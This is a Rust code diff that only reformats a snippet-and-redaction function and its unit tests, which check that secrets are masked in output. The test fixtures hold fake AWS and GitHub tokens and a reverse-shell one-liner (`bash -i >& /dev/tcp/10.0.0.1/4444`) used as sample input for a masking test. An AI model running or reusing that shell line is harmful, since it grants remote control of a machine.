@@ -44,7 +44,12 @@ pub struct Redaction {
 /// redaction range overlapping the window is replaced whole by
 /// `[REDACTED:<label>]` (even where it extends past the window), so no
 /// partial secret leaks at the edges; remaining token-like runs are masked.
-pub fn snippet(text: &[u8], focus: Range<usize>, redactions: &[Redaction], mode: SnippetMode) -> String {
+pub fn snippet(
+    text: &[u8],
+    focus: Range<usize>,
+    redactions: &[Redaction],
+    mode: SnippetMode,
+) -> String {
     if mode == SnippetMode::None {
         return String::new();
     }
@@ -168,9 +173,15 @@ mod tests {
     fn secret_is_replaced_and_context_kept() {
         let text = b"POST /upload token=AKIAQWERTYUIOPASDFGH&next=1 trailing text here";
         let r = 19..39;
-        let red = [Redaction { range: r.clone(), label: "aws_access_key_id" }];
+        let red = [Redaction {
+            range: r.clone(),
+            label: "aws_access_key_id",
+        }];
         let s = snippet(text, r, &red, SnippetMode::Full);
-        assert!(s.contains("token=[REDACTED:aws_access_key_id]&next=1"), "{s}");
+        assert!(
+            s.contains("token=[REDACTED:aws_access_key_id]&next=1"),
+            "{s}"
+        );
         assert!(!s.contains("QWERTYUIOP"));
         let short = snippet(text, 19..39, &red, SnippetMode::Short);
         assert!(short.len() < s.len());
@@ -182,7 +193,10 @@ mod tests {
         let mut text = b"x".repeat(100);
         text.extend_from_slice(b" ghp_Abcdefghijklmnopqrstuvwxyz0123456789 ");
         let secret = 101..141;
-        let red = [Redaction { range: secret, label: "github_pat" }];
+        let red = [Redaction {
+            range: secret,
+            label: "github_pat",
+        }];
         // Focus far left: the window ends inside the secret.
         let s = snippet(&text, 60..62, &red, SnippetMode::Full);
         assert!(!s.contains("ghp_Abc"), "{s}");
@@ -191,7 +205,10 @@ mod tests {
     #[test]
     fn token_like_runs_are_masked_but_words_and_commands_stay() {
         let mut out = String::new();
-        push_plain(&mut out, b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=Zx9Qm2Lp7Rt4Vb8N\n");
+        push_plain(
+            &mut out,
+            b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=Zx9Qm2Lp7Rt4Vb8N\n",
+        );
         assert_eq!(out, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=[MASKED] ");
     }
 
